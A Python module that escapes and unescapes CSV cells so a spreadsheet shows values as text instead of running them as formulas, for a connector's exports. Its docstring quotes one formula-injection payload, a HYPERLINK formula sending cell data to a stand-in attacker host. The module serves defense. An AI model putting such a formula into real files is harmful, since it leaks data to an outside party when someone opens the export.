"""CSV cells that a spreadsheet shows as text, never runs as a formula.

A spreadsheet evaluates a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (and some
also after a leading tab or carriage return), so a supplier name or a Ramp field value such
as ``=HYPERLINK("https://evil.example/?"&A1)`` could run when an operator opens an export.
Every CSV the connector writes therefore passes each cell through :func:`escape_cell`, and
every CSV it reads passes each cell through :func:`unescape_cell`. The rule, unambiguous both
ways:

- **export**: a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return *or a
  single quote* gets one more single quote in front (``=1+2`` → ``'=1+2``, ``-5`` → ``'-5``,
  ``'ok`` → ``''ok``); every other cell is written as it is;
- **import**: a cell that starts with a single quote followed by one of those characters or by
  another single quote loses its first character (``'=1+2`` → ``=1+2``, ``''ok`` → ``'ok``);
  every other cell is read as it is (a hand-typed ``'abc`` stays ``'abc``).

So ``unescape_cell(escape_cell(text)) == text`` for every text, and an exported file opened in a
spreadsheet shows each value as text (the leading quote is the spreadsheet's own "this is text"
mark).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

__all__ = ["FORMULA_TRIGGERS", "escape_cell", "unescape_cell", "write_rows"]

FORMULA_TRIGGERS = frozenset("=+-@\t\r")
"""First characters that make a spreadsheet treat a cell as a formula."""

_QUOTE = "'"
_ESCAPED_AFTER_QUOTE = FORMULA_TRIGGERS | {_QUOTE}


def escape_cell(text: str) -> str:
    """``text`` as written to a CSV cell: a leading trigger or quote gets a quote in front."""
    if text and text[0] in _ESCAPED_AFTER_QUOTE:
        return _QUOTE + text
    return text


def unescape_cell(text: str) -> str:
    """A CSV cell's text as meant: undoes :func:`escape_cell` exactly."""
    if len(text) >= 2 and text[0] == _QUOTE and text[1] in _ESCAPED_AFTER_QUOTE:
        return text[1:]
    return text


def write_rows(
    header: Sequence[str], rows: Iterable[Sequence[str]], *, line_end: str = "\n"
) -> str:
    """CSV text of a header line and ``rows``, every cell escaped.

    The csv module quotes a cell holding a line break only when the break is part of
    ``line_end``; a row with a carriage return somewhere is therefore written fully quoted,
    so a lone carriage return can never split a row when the file is read back.
    """
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=line_end)
    quoted = csv.writer(out, lineterminator=line_end, quoting=csv.QUOTE_ALL)
    for row in (header, *rows):
        cells = [escape_cell(cell) for cell in row]
        (quoted if any("\r" in cell for cell in cells) else writer).writerow(cells)
    return out.getvalue()
